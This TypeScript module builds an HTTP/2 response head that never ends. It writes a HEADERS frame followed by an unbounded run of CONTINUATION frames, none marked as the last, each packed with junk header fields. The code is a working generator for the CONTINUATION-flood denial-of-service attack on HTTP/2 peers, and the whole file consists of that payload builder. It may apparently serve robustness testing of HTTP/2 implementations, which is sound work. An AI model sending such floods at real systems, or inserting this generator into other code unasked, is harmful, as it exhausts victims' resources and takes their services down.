/** The types of HTTP/2's frames that make up a head. */
const HEADERS = 0x01;
const CONTINUATION = 0x09;
/** `:status: 200` in HPACK's static table. */
const STATUS_200 = Uint8Array.of(0x88);

/** The head of an answer that never ends: its block goes on in frame after frame, and none says that it is the last. */
export function continuationFlood(streamId: number, frames: number): Buffer {
  // A header field without indexing: a name of one letter, a value of forty.
  const field = Uint8Array.of(0, 1, 0x78, 40, ...new Uint8Array(40).fill(0x79));
  const block = Buffer.concat(Array.from({ length: 100 }, () => field));
  const flood = Array.from({ length: frames }, () => frame(CONTINUATION, streamId, block));
  return Buffer.concat([frame(HEADERS, streamId, STATUS_200), ...flood]);
}

function frame(type: number, streamId: number, payload: Uint8Array): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}
